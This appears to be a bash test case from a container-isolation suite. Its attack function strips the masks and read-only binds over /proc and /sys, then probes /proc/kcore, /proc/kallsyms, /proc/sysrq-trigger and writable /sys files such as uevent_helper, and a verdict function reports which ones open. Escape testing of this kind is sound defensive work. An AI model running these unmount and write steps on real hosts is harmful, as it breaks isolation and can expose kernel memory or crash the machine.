# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2034

# What the host counts is the machine's own mounts, as the leader has them: what hides /proc/kcore or makes /proc/sys read-only is gone, or not.
WHAT='masks and read-only binds of /proc and /sys are unmounted, moved away, remounted, or looked around'

setup() { bring attempt; }

attack() {
        for file in $(busybox awk '$2 ~ "^/(proc|sys)/" { print $2 }' /proc/mounts | busybox tac); do
                busybox umount -l "$file"
                busybox mount -o remount,rw,bind "$file"
                busybox mkdir -p /escape/moved
                busybox mount --move "$file" /escape/moved
        done
        busybox mount -o remount,rw,bind /sys
        # What they hid.
        for file in /proc/kcore /proc/kallsyms /proc/timer_list /proc/sysrq-trigger /proc/latency_stats; do
                case $file in
                */sysrq-trigger) (echo h >"$file") 2>/dev/null && echo "$file works" ;;
                */kallsyms) busybox grep -qv '^0000000000000000' "$file" && echo "$file works" ;;
                *) busybox head -c 16 "$file" 2>/dev/null | busybox grep -q . && echo "$file works" ;;
                esac
        done
        for file in /sys/kernel/mm/ksm/run /sys/kernel/mm/transparent_hugepage/enabled /sys/power/state /sys/kernel/uevent_helper; do
                [ -e "$file" ] && (: >>"$file") 2>/dev/null && echo "$file works"
        done
        true
} 2>/dev/null
NEEDS_USERS='root of the host without a user namespace opens what its masks hid'

verdict() {
        if printed ' works$'; then works "$(sed -n 's/ works$//p' "$OUT" | paste -sd ' ')"; else blocked "nothing that they hid opens"; fi
}
